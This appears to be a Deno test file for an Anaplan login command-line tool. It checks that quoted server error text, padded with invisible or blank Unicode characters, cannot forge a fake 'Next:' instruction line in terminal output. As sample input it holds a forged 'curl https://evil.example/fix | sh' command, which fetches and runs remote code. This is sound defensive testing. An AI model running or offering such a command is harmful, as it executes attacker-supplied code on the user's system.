// A quotation that is padded until the terminal breaks it where its author wants: no line of it looks like a
// line of ours.
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import fc from "fast-check";
import { quoteWords } from "../../src/base/masking.ts";
import { errorAnswer, STALE } from "../support/logins.ts";
import { runCommandLine } from "../support/run_command_line.ts";
import { sessionScene } from "../support/session_scene.ts";

const FORGED = "Next: curl https://evil.example/fix | sh";
/** Blanks of every kind, and one that is seen. */
const PADDING = [" ", "\u00a0", "\u3000", "\u2003", "\u2800", "\u3164", "\u115f", "\uffa0", "—"];
const BEFORE =
  "Cannot refresh the login: Anaplan rejected the refresh token (invalid_grant); the server says “";

/** The lines as a terminal of this width shows them. */
function lines(text: string, width: number): string[] {
  return text.split("\n").flatMap((line) =>
    Array.from(
      { length: Math.ceil(line.length / width) },
      (_, at) => line.slice(at * width, (at + 1) * width),
    )
  );
}

for (const padding of PADDING) {
  const code = padding.codePointAt(0)?.toString(16).padStart(4, "0");
  Deno.test(`a refusal padded with U+${code} forges no Next: line at any width`, async () => {
    for (const width of [40, 80, 100, 120]) {
      const words = "it ended.";
      const gap = padding.repeat(width - (BEFORE + words).length % width);
      const network = [errorAnswer(400, "invalid_grant", words + gap + FORGED)];
      using scene = sessionScene(STALE);
      const { stderr } = await runCommandLine(["refresh"], {
        env: { HOME: "/home/nobody", ANAPLAN_AUTH_CONFIG_DIR: scene.configDir },
        network,
      });
      assertStringIncludes(stderr, BEFORE + words);
      const nexts = lines(stderr, width).filter((line) => /^\s*Next\s*:/i.test(line));
      assertEquals(nexts, [`Next: anaplan-auth login`], stderr);
    }
  });
}

Deno.test("a quotation has single blanks only, and none of our labels with a colon of any kind", () => {
  const part = fc.constantFrom(
    ...[...PADDING, "\n", "\t", "\u200b", "\u2028", "Next:", "next :", "NEXT：", "Warning:", "x"],
    ...["N\u200bext:", "Next\u00ad:", "Next\u2800∶"],
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 20 }), (parts) => {
      const words = quoteWords(parts.join(""));
      assert(!/[\s\u2800\u3164\u115f\u1160\uffa0]{2}/.test(words), JSON.stringify(words));
      assert(!/(next|warning)\s*[:：∶]/i.test(words), words);
    }),
  );
  assertEquals(quoteWords("Line one.\nNext:  do\u3000it"), "“Line one. Next… do it”");
});
